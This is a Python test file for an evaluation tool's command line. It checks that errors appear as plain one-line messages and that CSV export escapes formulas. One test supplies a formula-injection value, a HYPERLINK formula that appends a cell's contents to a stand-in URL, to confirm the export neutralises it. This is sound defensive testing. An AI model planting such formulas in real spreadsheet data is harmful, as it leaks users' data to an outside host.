"""What a person sees when something goes wrong: one line naming the cause, never a traceback;
names that cannot drive their terminal; CSV cells a spreadsheet reads as text, not formulas."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy.exc import OperationalError
from typer.testing import CliRunner

from clearance.cli import app
from clearance.spreadsheet import without_banners


def _run(*args: str) -> Any:
    return CliRunner().invoke(app, list(args))


def _script(task: Path, answers: dict[str, str]) -> str:
    path = task.parent / "these-answers.jsonl"
    path.write_text("".join(json.dumps({"id": k, "output": v}) + "\n" for k, v in answers.items()))
    return f"scripted/{path}"


def test_eval_list_and_show_work_with_a_run_that_scored_nothing(
    task_and_model: tuple[Path, str],
) -> None:
    task, _ = task_and_model
    model = _script(task, {})  # no answer for any sample: every one fails
    failed = _run("eval", "run", str(task), "--model", model, "--json")
    assert failed.exit_code == 3
    run_id = json.loads(failed.stdout)["id"]
    listed = _run("eval", "list")
    assert listed.exit_code == 0, listed.output
    assert "failed" in listed.stdout
    assert "TypeError" not in listed.output
    shown = _run("eval", "show", run_id)
    assert shown.exit_code == 0, shown.output
    text = " ".join(shown.stdout.split())
    assert "1 × PermanentModelError: scripted model " in text
    assert "these-answers.jsonl: no line with id 'a'" in text
    assert "samples: a" in text
    assert "samples: b" in text
    doc = json.loads(_run("eval", "show", run_id, "--json").stdout)
    assert sorted(m["samples"] for m in doc["error_messages"]) == [["a"], ["b"], ["c"]]


def test_empty_answers_are_flagged_in_the_summary_and_in_show(
    task_and_model: tuple[Path, str],
) -> None:
    task, _ = task_and_model
    result = _run("eval", "run", str(task), "--model", _script(task, {"a": "", "b": "C", "c": "A"}))
    assert result.exit_code == 0, result.output
    assert "1 answer(s) were empty or null" in " ".join(result.stdout.split())
    run_id = json.loads(_run("eval", "list", "--json").stdout)[0]["id"]
    assert "1 answer(s) were empty or null" in " ".join(_run("eval", "show", run_id).stdout.split())


def test_run_csv_export_neutralises_formulas(task_and_model: tuple[Path, str]) -> None:
    task, _ = task_and_model
    formula = '=HYPERLINK("http://x.invalid/?"&A1,"click")'
    model = _script(task, {"a": formula, "b": "+1-2", "c": "A"})
    assert _run("eval", "run", str(task), "--model", model).exit_code == 0
    run_id = json.loads(_run("eval", "list", "--json").stdout)[0]["id"]
    rows = list(
        csv.DictReader(
            io.StringIO(
                without_banners(_run("eval", "export", run_id, "--format", "csv").stdout)[1]
            )
        )
    )
    assert [r["output"] for r in rows] == ["'" + formula, "'+1-2", "A"]
    plain = _run("eval", "export", run_id).stdout  # JSON lines carry the text as it was
    assert json.loads(plain.splitlines()[0])["output"] == formula


@pytest.mark.parametrize(
    ("option", "value", "expected"),
    [
        ("--max-connections", "5000", "--max-connections: input should be less than or equal to"),
        ("--seed", "9007199254740993", "--seed: input should be less than or equal to"),
    ],
)
def test_out_of_range_options_are_one_plain_line(
    task_and_model: tuple[Path, str], option: str, value: str, expected: str
) -> None:
    task, _ = task_and_model
    result = _run("eval", "run", str(task), "--model", _script(task, {}), option, value)
    assert result.exit_code == 1
    assert expected in result.stderr
    assert "pydantic" not in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1


def test_an_unexpected_exception_is_one_line_and_debug_shows_it(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import clearance.accountability

    def broken(*_: object, **__: object) -> None:
        raise RuntimeError("boom")

    monkeypatch.setattr(clearance.accountability, "visible_runs", broken)
    result = _run("eval", "list")
    assert result.exit_code == 5
    assert "unexpected RuntimeError: boom" in result.stderr
    assert "--debug" in result.stderr
    assert "Traceback" not in result.output
    debug = _run("--debug", "eval", "list")
    assert isinstance(debug.exception, RuntimeError)


@pytest.mark.parametrize(
    ("driver_message", "expected"),
    [
        ("database or disk is full", "the disk holding the store is full"),
        ("attempt to write a readonly database", "the store is read-only"),
        ("database is locked", "another process holds the store's write lock"),
    ],
)
def test_store_faults_name_the_real_cause(
    monkeypatch: pytest.MonkeyPatch, driver_message: str, expected: str
) -> None:
    import clearance.accountability

    def failing(*_: object, **__: object) -> None:
        orig = sqlite3.OperationalError(driver_message)
        raise OperationalError("INSERT ...", {}, orig)

    monkeypatch.setattr(clearance.accountability, "visible_runs", failing)
    result = _run("eval", "list")
    assert result.exit_code == 5
    assert f"the store failed: {expected}" in result.stderr
    assert "Is the database running" not in result.stderr
